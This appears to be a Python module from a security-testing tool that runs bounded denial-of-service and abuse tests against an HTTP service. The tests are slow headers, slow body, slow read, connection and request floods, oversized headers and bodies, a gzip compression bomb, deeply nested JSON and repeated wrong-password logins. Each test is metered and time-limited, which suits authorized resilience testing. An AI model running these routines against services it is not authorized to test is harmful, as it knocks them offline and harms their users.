"""Attacks of abuse, each bounded: what one machine can do to a service that takes what it is sent.

Keeps: the meter is asked before each connection and each request; every request carries the marker;
all ends with the time. Nothing is sent that lasts: no connection outlives the run.
Source: RFC 9112 for what is cut short; slow requests as slowhttptest describes them.
"""

from __future__ import annotations

import asyncio
import gzip
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress

from surefoot.gates.active import Meter, Over
from surefoot.gates.reply import BadReply, Reply
from surefoot.gates.resilience.plan import AttackRecord, Plan
from surefoot.product.resilience_form import Attack

_POLL_SECONDS = 0.5
_DRIP_SECONDS = 4.0
_CONNECT_SECONDS = 5.0
_HEADERS_BYTES = 1024 * 1024
_BODY_BYTES = 64 * 1024 * 1024
_BODY_SAID_BYTES = 8 * 1024**3
_BOMB_BYTES = 256 * 1024 * 1024
_DEPTH = 200_000
_CHUNK = bytes(64 * 1024)
_TIMES = 3
_FLOOD_WORKERS = 20


class Abuse:
    """One kind, done once. Use: `await Abuse(plan, kind, meter).run()`."""

    def __init__(self, plan: Plan, kind: Attack, meter: Meter) -> None:
        self._plan = plan
        self._kind = kind
        self._meter = meter
        self._host, self._port = meter.endpoint(plan.endpoint)
        self._deadline = 0.0
        self._made = 0
        self._closed = 0
        self._held = 0
        self._statuses: dict[str, int] = {}
        self._over = ""

    async def run(self) -> AttackRecord:
        """Do it until it is done or the time is over."""
        acts: dict[Attack, tuple[int, Callable[[], Awaitable[None]]]] = {
            "slow-headers": (self._plan.connections, self._slow_headers),
            "slow-body": (self._plan.connections, self._slow_body),
            "slow-read": (self._plan.connections, self._slow_read),
            "connection-flood": (self._plan.connections, self._idle),
            "request-flood": (self._plan.requests, self._flood),
            "large-headers": (_TIMES, self._large_headers),
            "large-body": (_TIMES, self._large_body),
            "compression-bomb": (_TIMES, self._bomb),
            "deep-json": (_TIMES, self._deep_json),
            "login": (self._plan.login.tries if self._plan.login else 0, self._guess),
        }
        wanted, act = acts[self._kind]
        began = time.monotonic()
        self._deadline = began + self._plan.seconds
        try:
            await act()
        except Over as over:
            self._over = str(over)
        return AttackRecord(
            kind=self._kind,
            began=began,
            ended=time.monotonic(),
            wanted=wanted,
            made=self._made,
            closed=self._closed,
            held=self._held,
            statuses=self._statuses,
            over=self._over,
        )

    # -- many connections that last ---------------------------------------------------------------

    async def _slow_headers(self) -> None:
        opening = self._head("GET", self._plan.probe, end=False)
        await self._many(opening, b"X-More: 1\r\n")

    async def _slow_body(self) -> None:
        more = "Content-Type: application/json\r\nContent-Length: 100000\r\n"
        await self._many(self._head("POST", self._plan.accepts, more), b" ")

    async def _idle(self) -> None:
        await self._many(b"", b"")

    async def _slow_read(self) -> None:
        # Many answers asked for at once, none of them read.
        await self._many(self._head("GET", self._plan.probe) * 50, b"", reads=False)

    async def _many(self, opening: bytes, drip: bytes, *, reads: bool = True) -> None:
        tasks = [self._last(opening, drip, reads) for _ in range(self._plan.connections)]
        found = await asyncio.gather(*tasks, return_exceptions=True)
        for one in found:
            if isinstance(one, Over):
                self._over = str(one)
            elif isinstance(one, BaseException):
                raise one

    async def _last(self, opening: bytes, drip: bytes, reads: bool) -> None:
        """One connection that is kept open for as long as the service lets it."""
        async with _Connection(self, limit=1024) as (reader, writer):
            if writer is None or reader is None:
                return
            if opening:
                self._meter.take()
                writer.write(opening)
            reply, drips_at = Reply(), time.monotonic() + _DRIP_SECONDS
            while time.monotonic() < self._deadline:
                self._meter.look()
                content = None
                if reads:
                    with suppress(TimeoutError):
                        content = await asyncio.wait_for(reader.read(1024), _POLL_SECONDS)
                else:
                    await asyncio.sleep(_POLL_SECONDS)
                if content == b"" or writer.transport.is_closing():
                    self._closed += not reply.status
                    return
                if content and not reply.status:
                    self._note(reply, content)
                if drip and not reply.status and time.monotonic() >= drips_at:
                    writer.write(drip)
                    drips_at += _DRIP_SECONDS
            self._held += not reply.status

    def _note(self, reply: Reply, content: bytes) -> None:
        with suppress(BadReply):
            reply.feed(content)
        if reply.status:
            self._count(reply.status)

    # -- many requests ----------------------------------------------------------------------------

    async def _flood(self) -> None:
        request = self._head("GET", self._plan.probe)
        workers = min(_FLOOD_WORKERS, self._plan.connections)
        await asyncio.gather(*(self._hammer(request) for _ in range(workers)))

    async def _hammer(self, request: bytes) -> None:
        while self._made < self._plan.requests and time.monotonic() < self._deadline:
            await self._ask(request, again=lambda: self._made < self._plan.requests)

    async def _guess(self) -> None:
        login = self._plan.login
        assert login is not None
        for number in range(login.tries):
            body = login.body.replace("{password}", f"wrong-{number}").encode()
            more = f"Content-Type: {login.type}\r\nContent-Length: {len(body)}\r\n"
            await self._ask(self._head("POST", login.path, more) + body)

    # -- few requests that are too much -----------------------------------------------------------

    async def _large_headers(self) -> None:
        line = f"X-Large: {'a' * 1000}\r\n"
        more = line * (_HEADERS_BYTES // len(line))
        for _ in range(_TIMES):
            await self._ask(self._head("GET", self._plan.probe, more))

    async def _large_body(self) -> None:
        more = f"Content-Type: application/json\r\nContent-Length: {_BODY_SAID_BYTES}\r\n"
        for _ in range(_TIMES):
            await self._ask(self._head("POST", self._plan.accepts, more), body_bytes=_BODY_BYTES)

    async def _bomb(self) -> None:
        packed = await asyncio.to_thread(gzip.compress, bytes(_BOMB_BYTES), 9)
        more = "Content-Type: application/json\r\nContent-Encoding: gzip\r\n"
        head = self._head("POST", self._plan.accepts, f"{more}Content-Length: {len(packed)}\r\n")
        for _ in range(_TIMES):
            await self._ask(head + packed)

    async def _deep_json(self) -> None:
        body = b"[" * _DEPTH + b"]" * _DEPTH
        more = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
        for _ in range(_TIMES):
            await self._ask(self._head("POST", self._plan.accepts, more) + body)

    async def _ask(
        self, request: bytes, *, body_bytes: int = 0, again: Callable[[], bool] = lambda: False
    ) -> None:
        """One request and its answer; more on the same connection while `again` says so."""
        async with _Connection(self) as (reader, writer):
            while reader is not None and writer is not None:
                self._meter.take()
                self._made += 1
                sending = asyncio.ensure_future(_send(writer, request, body_bytes))
                try:
                    status, keeps = await self._answer(reader)
                finally:
                    sending.cancel()
                    with suppress(asyncio.CancelledError, OSError):
                        await sending
                if status:
                    self._count(status)
                elif time.monotonic() < self._deadline:
                    self._closed += 1
                else:
                    self._held += 1
                if not (keeps and again() and time.monotonic() < self._deadline):
                    return

    async def _answer(self, reader: asyncio.StreamReader) -> tuple[int, bool]:
        """Status and whether the connection stays open; 0 for no answer."""
        reply = Reply()
        try:
            while not reply.whole:
                left = max(0.0, self._deadline - time.monotonic())
                content = await asyncio.wait_for(reader.read(65_536), left)
                if not content:
                    reply.closed()
                    break
                reply.feed(content)
        except (TimeoutError, OSError, BadReply):
            return reply.status, False
        return reply.status, reply.whole and reply.keeps_open

    # -- shared -----------------------------------------------------------------------------------

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        """A connection, counted; None when the service would not take it."""
        self._meter.opened()
        lasting = self._kind in _LASTING
        try:
            opened = await asyncio.wait_for(
                asyncio.open_connection(self._host, self._port), _CONNECT_SECONDS
            )
        except (OSError, TimeoutError) as error:
            self._meter.closed()
            self._made += lasting
            # Who is not let in was refused; who waits before a door that stays shut was not.
            if isinstance(error, TimeoutError):
                self._held += 1
            else:
                self._closed += 1
            return None
        self._made += lasting
        return opened

    def ended(self) -> None:
        """A connection is gone."""
        self._meter.closed()

    def _count(self, status: int) -> None:
        self._statuses[str(status)] = self._statuses.get(str(status), 0) + 1

    def _head(self, method: str, path: str, more: str = "", *, end: bool = True) -> bytes:
        name, value = self._meter.header()
        host = self._plan.endpoint
        text = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{name}: {value}\r\n{more}"
        return (text + ("\r\n" if end else "")).encode()


_LASTING = ("slow-headers", "slow-body", "slow-read", "connection-flood")


class _Connection:
    """A connection for the length of a block; both parts are None when there was none."""

    def __init__(self, abuse: Abuse, limit: int = 65_536) -> None:
        self._abuse = abuse
        self._writer: asyncio.StreamWriter | None = None

    async def __aenter__(
        self,
    ) -> tuple[asyncio.StreamReader | None, asyncio.StreamWriter | None]:
        opened = await self._abuse.connect()
        if opened is None:
            return None, None
        self._writer = opened[1]
        return opened

    async def __aexit__(self, *_: object) -> bool:
        if self._writer is not None:
            self._writer.transport.abort()
            self._abuse.ended()
        # A connection that the service cuts is an outcome, not an error.
        return isinstance(_[1], OSError)


async def _send(writer: asyncio.StreamWriter, request: bytes, body_bytes: int) -> None:
    with suppress(OSError):
        writer.write(request)
        await writer.drain()
        for _ in range(body_bytes // len(_CHUNK)):
            writer.write(_CHUNK)
            await writer.drain()
